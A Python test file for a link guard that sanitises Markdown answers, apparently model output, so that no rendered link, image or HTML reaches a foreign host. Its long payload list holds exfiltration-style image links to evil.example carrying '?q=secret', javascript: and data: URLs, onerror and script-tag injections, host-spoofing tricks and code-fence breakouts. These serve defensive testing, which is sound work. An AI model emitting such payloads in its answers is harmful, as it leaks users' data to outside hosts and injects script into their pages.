"""What becomes of links and images in answers, as renderers of Markdown see it."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fargate.generation.link_guard import MAX_ADDRESS, LinkGuard, guarded

ALLOWED = ("docs.example.com", "*.ok.example")
RENDERERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": True}),
    MarkdownIt("js-default", {"html": True, "linkify": True, "typographer": True}).enable(["replacements"]),
)
STRICT = (RENDERERS[0], MarkdownIt("gfm-like", {"html": True, "linkify": True}))
"""The same, where a bare name such as ``main.py`` is no link."""
assert STRICT[1].linkify is not None
STRICT[1].linkify.set({"fuzzy_link": False, "fuzzy_email": False})
OWN_TAGS = frozenset(
    {"a", "blockquote", "br", "code", "em", "hr", "img", "li", "ol", "p", "pre", "s", "strong", "ul"}
    | {"h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"}
)
"""What Markdown itself makes of these texts."""

PAYLOADS = [
    # images and links, inline
    "![](https://evil.example/?q=secret)",
    "![a picture](http://evil.example/p.png 'title')",
    "![x](//evil.example/p.png)",
    "![x](\\\\evil.example\\p.png)",
    "![x](/\\evil.example/p.png)",
    "![x](https:evil.example/p.png)",
    "![x](https:/evil.example/p.png)",
    "![x](https:///evil.example/p.png)",
    "![x](<https://evil.example/a b>)",
    "![x]( https://evil.example/p.png )",
    "![x](\nhttps://evil.example/p.png)",
    '![x](\thttps://evil.example/p.png\t"t")',
    "[click](https://evil.example/?q=secret)",
    "[click](HTTPS://EVIL.EXAMPLE)",
    "[click](javascript:fetch('//evil.example'))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file://evil.example/share)",
    "[click](ftp://evil.example/x)",
    "[click](blob:https://evil.example/x)",
    "[a [nested] text](https://evil.example)",
    "[![in](https://evil.example/i.png)](https://docs.example.com/)",
    "[a\\](https://evil.example) b](https://evil.example)",
    "[`code`](https://evil.example)",
    "[x](https://docs.example.com@evil.example/)",
    "[x](https://docs.example.com:pw@evil.example/)",
    "[x](https://docs.example.com.evil.example/)",
    "[x](https://evil.example\\@docs.example.com/)",
    "[x](https://evil.example#@docs.example.com/)",
    "[x](https://docs.example.com%2eevil.example/)",
    "[x](https://docs.example.com&#46;evil.example/)",
    "[x](https://docs.example.com&period;evil.example/)",
    "[x](https://ok.example.evil.example/)",
    "[x](https://[2001:db8::1]/)",
    "[x](https://0x7f000001/)",
    "[x](https://evil\u3002example/)",
    # entities and escapes
    "![x](&#104;ttps://evil.example)",
    "![x](&#x68;ttps&colon;//evil.example)",
    "![x](https&colon;&sol;&sol;evil&period;example)",
    "![x](https\\://evil.example)",
    "![x](https:\\/\\/evil.example)",
    "![x](&#47;&#47;evil.example/p.png)",
    "https&colon;//evil.example/x",
    "https:&#47;/evil.example/x",
    "https\\://evil.example/x",
    # references
    "[x][r]\n\n[r]: https://evil.example",
    "![x][r]\n\n[r]: //evil.example/p.png 'title'",
    "[r]\n\n[r]:\nhttps://evil.example",
    "[r]\n\n   [r]:   <https://evil.example>",
    "> [x][r]\n>\n> [r]: https://evil.example",
    "- [x][r]\n\n  [r]: https://evil.example",
    "[two\nlines]\n\n[two\nlines]: https://evil.example",
    "[^1]\n\n[^1]: https://evil.example/footnote",
    # addresses by themselves
    "<https://evil.example/?q=secret>",
    "<HTTPS://evil.example>",
    "see https://evil.example/?q=secret.",
    "http://evil.example",
    "ftp://evil.example/x",
    "www.evil.example/?q=secret",
    "WWW.evil.example",
    "(www.evil.example)",
    "//evil.example/x",
    "evil.com/?q=secret",
    "evil.com:8080/x",
    "https://docs.example.com)evil.example/",
    "https://docs.example.com,evil.example/",
    "https://docs.example.com\\evil.example/",
    "https://docs.example.com`evil.example/",
    "*https://evil.example/*",
    # HTML
    "<img src=https://evil.example/p.png>",
    "<IMG SRC='//evil.example/p.png' onerror=alert(1)>",
    '<a href="https://evil.example">x</a>',
    "<a\nhref='https://evil.example'>x</a>",
    "<svg><image href='//evil.example/p'/></svg>",
    "<style>@import '//evil.example/s.css';</style>",
    '<div style="background:url(//evil.example/p)">x</div>',
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc=\"<img src='//evil.example'>\"></iframe>",
    "<script src=//evil.example/s.js></script>",
    "<form action=//evil.example><button>x</button></form>",
    "<!-- --><img src=//evil.example>",
    "<?x ?><img src=//evil.example>",
    "<![CDATA[x]]><img src=//evil.example>",
    "<<img src=//evil.example>",
    # code that is none, for somebody
    "`<img src=//evil.example>",
    "`a\nb` <img src=//evil.example> `c`",
    "| ` | <img src=//evil.example> ` |\n|---|---|\n| a | b |",
    "    ```\n<img src=//evil.example>\n    ```",
    "- ```\n  ```\n<img src=//evil.example>",
    "- ```\n```\n<img src=//evil.example>\n```\n<img src=//evil.example>",
    "> ```\n<img src=//evil.example>",
    "```\ncode\n``\n```\n<img src=//evil.example>",
    "```\ncode\n    ```\n```\n<img src=//evil.example>",
    "~~~\ncode\n```\n~~~\n<img src=//evil.example>",
    "``` a`b\n<img src=//evil.example>",
    "text\n```\ncode\n```\n![](https://evil.example)",
    "```\r\ncode\r\n```\r\n![](https://evil.example)\r\n",
    "```\ncode\n```\r\n<img src=//evil.example>",
    "```\ncode\r```\r![](https://evil.example)\n",
    "text\r```\ncode\n```\n![](https://evil.example)",
]


class Seen(HTMLParser):
    """What a browser would find: tags, attributes, and the addresses among them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """See `HTMLParser`."""
        self.tags.append(tag)
        self.addresses += [value or "" for name, value in attrs if name not in {"alt", "title", "class", "start"}]


def seen(markdown: str, renderers: Iterable[MarkdownIt] = RENDERERS) -> Iterator[Seen]:
    """Give what each of *renderers* makes of *markdown*."""
    for renderer in renderers:
        page = Seen()
        page.feed(renderer.render(markdown))
        page.close()
        yield page


def leads_out(address: str) -> bool:
    """Say whether a browser on another page would leave for a host that is not allowed."""
    parts = urlsplit(address)
    inside = not parts.scheme and not parts.netloc and not set(address) & set("/\\.:?&@")
    host = parts.hostname or ""
    return not (
        inside or (parts.scheme in {"http", "https"} and (host == "docs.example.com" or host.endswith(".ok.example")))
    )


def in_pieces(text: str, size: int) -> str:
    """Guard *text* in pieces of *size* characters."""
    guard = LinkGuard(ALLOWED)
    return "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size)) + guard.end()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Thirty days. [1] {} So it says.", "- item {}\n- next", "**{}**"])
def test_nothing_leads_to_a_foreign_host(payload: str, around: str) -> None:
    """In no renderer, however the text was cut into pieces."""
    text = around.format(payload)
    for page in seen(guarded(text, ALLOWED)):
        assert set(page.tags) <= OWN_TAGS
        assert [address for address in page.addresses if leads_out(address)] == []
    assert in_pieces(text, 1) == in_pieces(text, 3) == guarded(text, ALLOWED)


def test_the_payloads_would_do_harm() -> None:
    """Most of them lead out where nothing guards; the rest try what some renderer might take."""
    harmful = [
        payload
        for payload in PAYLOADS
        if any(set(page.tags) - OWN_TAGS or any(map(leads_out, page.addresses)) for page in seen(payload))
    ]
    assert len(harmful) >= 75


@pytest.mark.parametrize(
    "text",
    [
        "Thirty days of leave. [1] See section 4.2, e.g. for a < b or x<5; 10:30 and 3/4.",
        "According to [1]: the plan. `arr[0](x)` and [top](#top).",
        'Read [the guide](https://docs.example.com/a/index.html?x=1&y=2#z "Guide") or < b.',
        "Read [the guide][g].\n\n[g]: https://docs.example.com/guide\n",
        "![diagram](https://img.ok.example/d.png)",
        "See https://docs.example.com/a/index.html?x=1, and (https://docs.example.com).",
        "Copy s3://bucket/key/part.csv to C:\\temp. AT&amp;T and 5 &gt; 4.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```html\n<img src=https://evil.example>\n```\nDone.",
        "// a remark, and a//b",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    """Prose, tables, allowed addresses, and code in fences."""
    assert guarded(text, ALLOWED) == text


def test_an_address_that_is_not_allowed_can_still_be_read() -> None:
    """By people."""
    assert guarded("See https://www.evil.example/a.", ()) == "See https[:]//www[.]evil[.]example/a."
    assert guarded("A List<String>.", ()) == "A List\u2039String>."


def test_ordinary_words_are_not_held_back() -> None:
    """A reader sees each as soon as it is there."""
    guard = LinkGuard(ALLOWED)
    words = ["Everybody", " has", " thirty", " days", " of", " leave"]
    assert [guard.feed(word) for word in words] == words


def test_an_address_without_end_is_not_waited_for() -> None:
    """What is held stays small."""
    guard = LinkGuard(("docs.example.com",))
    said = "".join(guard.feed("a") for _ in guard.feed("](https://docs.example.com/") or range(3 * MAX_ADDRESS))
    assert len(said) > MAX_ADDRESS


signs = st.sampled_from(
    [*"[]()<>!:/\\.&;#`~\r\n -wa1", "https", "evil.example", "docs.example.com", "://", "](", "]:", "```"]
)


@settings(max_examples=600, deadline=None)
@given(st.lists(signs, max_size=40).map("".join))
def test_no_text_at_all_leads_out(text: str) -> None:
    """Whatever is put together of the signs that matter, in whatever pieces."""
    said = guarded(text, ALLOWED)
    for page in seen(said, STRICT):
        assert set(page.tags) <= OWN_TAGS
        assert [address for address in page.addresses if leads_out(address)] == []
    assert in_pieces(text, 1) == said
    assert in_pieces(text, 2) == said
